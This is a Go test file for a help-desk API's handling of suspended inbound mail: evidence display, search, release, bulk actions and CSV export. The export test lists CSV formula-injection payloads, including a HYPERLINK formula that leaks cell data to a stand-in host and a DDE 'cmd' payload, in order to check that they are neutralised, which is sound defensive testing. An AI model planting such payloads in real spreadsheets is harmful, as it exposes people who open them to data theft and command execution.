package api_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"postern/desk"
	"postern/store"
)

// spoof claims to be from one of our people.
const spoof = "From: Agnes <agnes@example.com>\nTo: support@example.com\nSubject: I am Agnes\nMessage-ID: <%d@spoof.test>\n\nBelieve me, number %d.\n"

// spoofed brings in that many mails that are held back.
func (o *office) spoofed(t *testing.T, count int) (ids []int64) {
	t.Helper()
	for i := range count {
		outcome := o.mail(t, "agnes@example.com", fmt.Sprintf(spoof, i, i))
		if outcome.Disposition != desk.Suspended {
			t.Fatalf("the mail became %+v", outcome)
		}
		ids = append(ids, outcome.Suspended)
	}
	return ids
}

// hold files a suspended mail with what intake would have found out about it.
func (o *office) hold(t *testing.T, row store.SuspendedRow) (id int64) {
	t.Helper()
	err := o.store.FileMails(t.Context(), store.Lookup{Need: store.Numbers{Suspended: 1}}, func(found store.Found) (*store.Filing, error) {
		id = found.SuspendedIDs[0]
		row.ID, row.Mailboxes, row.ReceivedAt = id, []int64{o.mailbox.ID}, time.Now()
		row.Digest = fmt.Append(nil, "digest ", id)
		return &store.Filing{Suspended: []store.SuspendedRow{row}}, nil
	})
	must(t, err)
	return id
}

func TestSuspendedMailIsShownWithItsEvidence(t *testing.T) {
	t.Parallel()
	o := open(t)
	verdict := desk.Unchecked("")
	verdict.SPF = desk.Method{Result: desk.ResultFail, Domain: "bank.example", Reason: "192.0.2.9 may not send as bank.example."}
	verdict.DKIM = []desk.Method{{Result: desk.ResultFail, Domain: "x.example"}, {Result: desk.ResultPass, Domain: "y.example", Selector: "s", Bits: 2048}}
	verdict.IPRev = desk.Method{Result: desk.ResultPass}
	id := o.hold(t, store.SuspendedRow{
		Cause: desk.CauseSpam, Evidence: "The spam filter scored it 9.0", From: "thief@bank.example", Subject: "Your account", Preview: "Click here", Verdict: verdict,
		Envelope: desk.Envelope{Source: desk.FromSMTP, RemoteIP: netip.MustParseAddr("192.0.2.9"), Helo: "thief.example", MailFrom: "x@thief.example", Recipients: []string{supportAddress}, ReceivedAt: time.Now()},
		Opinion:  desk.Opinion{Score: 9, Action: "add header", Symbols: []desk.Symbol{{Name: "PHISHING", Score: 9}}},
	})
	shown := o.get(t, "agent", at("/suspended/%d", id)).want(http.StatusOK)
	for want, path := range map[any][]any{
		"spam": {"cause"}, desk.Causes[desk.CauseSpam]: {"explanation"}, "Click here": {"preview"}, supportAddress: {"mailboxes", 0, "address"},
		"192.0.2.9": {"envelope", "remote_ip"}, "thief.example": {"envelope", "helo"}, "fail": {"auth", "spf"}, "pass": {"auth", "dkim"}, "none": {"auth", "helo"},
		float64(2048): {"auth", "checks", "dkim", 1, "bits"}, "192.0.2.9 may not send as bank.example.": {"auth", "checks", "spf", "reason"}, "PHISHING": {"opinion", "symbols", 0, "name"},
	} {
		if got := shown.value(path...); got != want {
			t.Errorf("%v is %v, want %v", path, got, want)
		}
	}
	received, err := time.Parse(time.RFC3339, shown.value("received_at").(string))
	must(t, err)
	if until, err := time.Parse(time.RFC3339, shown.value("kept_until").(string)); err != nil || until.Sub(received) != 14*24*time.Hour {
		t.Errorf("kept from %v until %v (%v)", received, until, err)
	}
	bare := o.hold(t, store.SuspendedRow{Cause: desk.CauseUnprocessable})
	if got := o.get(t, "agent", at("/suspended/%d", bare)).want(http.StatusOK); got.value("auth") != nil || got.value("opinion") != nil {
		t.Errorf("without a verdict or an opinion: %s", got.body)
	}
	o.get(t, "agent", "/suspended/987654").want(http.StatusNotFound)
	o.get(t, "customer", at("/suspended/%d", id)).want(http.StatusForbidden)
}

func TestSuspendedMailIsFoundByCauseAndWords(t *testing.T) {
	t.Parallel()
	o := open(t)
	spam := o.hold(t, store.SuspendedRow{Cause: desk.CauseSpam, From: "a@spam.example", Subject: "100% free"})
	loop := o.hold(t, store.SuspendedRow{Cause: desk.CauseLoop, From: "b@loop.example", Subject: "Out of office"})
	again := o.hold(t, store.SuspendedRow{Cause: desk.CauseSpam, From: "c@spam.example", Subject: "Not for free"})
	for query, want := range map[string][]int64{
		"": {again, loop, spam}, "?cause=spam": {again, spam}, "?cause=loop": {loop}, "?cause=malware": {}, "?q=OFFICE": {loop},
		"?q=spam.example": {again, spam}, "?q=100%25": {spam}, "?q=%25": {spam}, "?cause=spam&q=not": {again}, "?limit=1": {again},
	} {
		if got := o.get(t, "agent", "/suspended"+query).want(http.StatusOK).ids("id"); !slices.Equal(got, want) {
			t.Errorf("%s gives %v, want %v", query, got, want)
		}
	}
	first := o.get(t, "agent", "/suspended?cause=spam&limit=1").want(http.StatusOK)
	next, _ := first.value("next_cursor").(string)
	if rest := o.get(t, "agent", "/suspended?cause=spam&limit=1&cursor="+next).want(http.StatusOK); !slices.Equal(rest.ids("id"), []int64{spam}) || rest.value("next_cursor") != nil {
		t.Errorf("the second page is %s", rest.body)
	}
	o.get(t, "agent", "/suspended?cause=dislike").want(http.StatusUnprocessableEntity)

	causes := o.get(t, "agent", "/suspended/causes").want(http.StatusOK)
	list, _ := causes.value("items").([]any)
	if len(list) != len(desk.CauseList) {
		t.Fatalf("%d causes, want %d", len(list), len(desk.CauseList))
	}
	for i, cause := range desk.CauseList {
		want := map[desk.Cause]float64{desk.CauseSpam: 2, desk.CauseLoop: 1}[cause]
		if causes.value("items", i, "cause") != string(cause) || causes.value("items", i, "count") != want || causes.value("items", i, "explanation") != desk.Causes[cause] {
			t.Errorf("cause %d is %v", i, list[i])
		}
	}
}

// Behaviour §5: a release goes onto a ticket of choice, says what became of the mail, and the message tells that it was held.
func TestSuspendedMailIsReleasedOntoATicket(t *testing.T) {
	t.Parallel()
	o := open(t)
	held := o.spoofed(t, 3)
	ticket := o.started(t, customerEmail, "An older one")
	let := o.post(t, "agent", at("/suspended/%d/release", held[0]), map[string]any{"ticket": ticket}).want(http.StatusOK)
	if let.value("disposition") != "appended" || let.id("ticket") != ticket {
		t.Errorf("released: %s", let.body)
	}
	message := o.get(t, "agent", at("/messages/%d", let.id("message"))).want(http.StatusOK)
	if message.value("released") != "agent-impersonation" || message.value("auth", "trust") == "verified" || message.value("auth", "helo") == nil || message.value("auth", "iprev") == nil {
		t.Errorf("the message is %s", message.body)
	}
	o.post(t, "agent", at("/suspended/%d/release", held[1]), map[string]any{"ticket": 987654}).want(http.StatusNotFound)
	o.post(t, "agent", at("/suspended/%d/release", held[1]), map[string]any{"number": ticket}).want(http.StatusUnprocessableEntity)
	o.post(t, "agent", at("/suspended/%d/release", held[1]), map[string]any{}).want(http.StatusOK)
	o.post(t, "agent", at("/suspended/%d/spam", held[2]), nil).want(http.StatusNoContent)
	o.post(t, "agent", at("/suspended/%d/spam", held[2]), nil).want(http.StatusNotFound)
	if left := o.get(t, "agent", "/suspended").want(http.StatusOK).ids("id"); len(left) != 0 {
		t.Errorf("left are %v", left)
	}
}

func TestBulkTellsWhatBecameOfEach(t *testing.T) {
	t.Parallel()
	o := open(t)
	held := o.spoofed(t, 6)
	bulk := func(action string, ids ...int64) answer {
		return o.post(t, "agent", "/suspended/bulk", map[string]any{"action": action, "ids": ids}).want(http.StatusOK)
	}
	released := bulk("release", held[0], 987654, held[1])
	if released.value("items", 0, "outcome", "disposition") != "ticketed" || released.id("items", 0, "outcome", "ticket") == 0 || released.value("items", 0, "problem") != nil {
		t.Errorf("the first: %s", released.body)
	}
	if released.id("items", 1, "id") != 987654 || released.value("items", 1, "outcome") != nil || released.value("items", 1, "problem") == nil {
		t.Errorf("one that is not there: %s", released.body)
	}
	if released.value("items", 2, "outcome", "disposition") != "ticketed" {
		t.Errorf("the one after it: %s", released.body)
	}
	bulk("delete", held[2])
	bulk("spam", held[3])
	if allowed := bulk("allow", held[4]); allowed.value("items", 0, "outcome", "disposition") != "ticketed" {
		t.Errorf("allowed: %s", allowed.body)
	}
	bulk("block", held[5])
	if rules := o.get(t, "agent", "/sender-rules").want(http.StatusOK); rules.value("items", 0, "pattern") != "agnes@example.com" || rules.value("items", 0, "action") != "suspend" {
		t.Errorf("the rules are %s", rules.body)
	}
	if left := o.get(t, "agent", "/suspended").want(http.StatusOK).ids("id"); len(left) != 0 {
		t.Errorf("left are %v", left)
	}
	for name, body := range map[string]any{
		"no such action": map[string]any{"action": "burn", "ids": []int64{1}}, "nothing": map[string]any{"action": "delete", "ids": []int64{}},
		"too many": map[string]any{"action": "delete", "ids": make([]int64, 201)}, "unknown field": map[string]any{"action": "delete", "ids": []int64{1}, "ticket": 1},
	} {
		if got := o.post(t, "agent", "/suspended/bulk", body); got.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d", name, got.status)
		}
	}
}

// What a stranger wrote is no formula where a spreadsheet opens it.
func TestExportIsHarmlessInASpreadsheet(t *testing.T) {
	t.Parallel()
	o := open(t)
	hostile := []string{
		`=HYPERLINK("http://thief.example?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r\n=1", "  =1+1", "\u200b=1+1", "\ufeff@x", "＝1+1", "a \"quoted\", cell\nof two lines", "plain",
	}
	for _, subject := range hostile {
		o.hold(t, store.SuspendedRow{Cause: desk.CauseSpam, From: "=a@spam.example", Subject: subject, Preview: subject, Evidence: subject})
	}
	for range 100 { // more than one page
		o.hold(t, store.SuspendedRow{Cause: desk.CauseLoop, From: "b@loop.example", Subject: "x"})
	}
	got := o.get(t, "admin", "/suspended.csv").want(http.StatusOK)
	if kind := got.header.Get("Content-Type"); kind != "text/csv; charset=utf-8; header=present" || !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment") {
		t.Errorf("Content-Type %q, Content-Disposition %q", kind, got.header.Get("Content-Disposition"))
	}
	rows, err := csv.NewReader(strings.NewReader(string(got.body))).ReadAll()
	must(t, err)
	if len(rows) != 1+len(hostile)+100 || strings.Join(rows[0], ",") != "id,received_at,cause,evidence,from,subject,preview,size" {
		t.Fatalf("%d rows under %v", len(rows), rows[0])
	}
	var plain int
	for _, row := range rows[1:] {
		for i, cell := range row {
			if bare := strings.TrimLeft(cell, "\u200b\ufeff \t\r\n"); bare != "" && strings.ContainsRune("=+-@＝", []rune(bare)[0]) {
				t.Errorf("column %s holds %q", rows[0][i], cell)
			}
		}
		if row[5] == "plain" || strings.HasPrefix(row[5], `a "quoted", cell`) {
			plain++
		}
	}
	if plain != 2 {
		t.Error("harmless text was changed")
	}
	if some, err := csv.NewReader(strings.NewReader(string(o.get(t, "admin", "/suspended.csv?cause=spam&q=plain").want(http.StatusOK).body))).ReadAll(); err != nil || len(some) != 2 {
		t.Errorf("by cause and words: %v, %v", some, err)
	}
	o.get(t, "admin", "/suspended.csv?cause=dislike").want(http.StatusUnprocessableEntity)
}
